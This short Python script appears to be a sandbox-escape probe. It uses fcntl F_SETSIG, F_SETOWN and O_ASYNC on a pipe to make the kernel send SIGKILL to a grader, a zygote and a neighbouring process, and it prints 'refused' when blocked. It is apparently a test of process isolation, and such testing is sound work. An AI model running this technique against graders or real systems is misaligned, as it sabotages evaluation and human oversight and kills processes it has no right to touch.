import fcntl
import os
import signal

from attack import *

for pid in (targets.grader_pid, targets.zygote_pid, targets.neighbour_pid):
    reading, writing = os.pipe()
    try:
        fcntl.fcntl(reading, fcntl.F_SETSIG, signal.SIGKILL)
        fcntl.fcntl(reading, fcntl.F_SETOWN, pid)
        fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC)
        os.write(writing, b"x")
    except OSError as error:
        print("refused:", error)
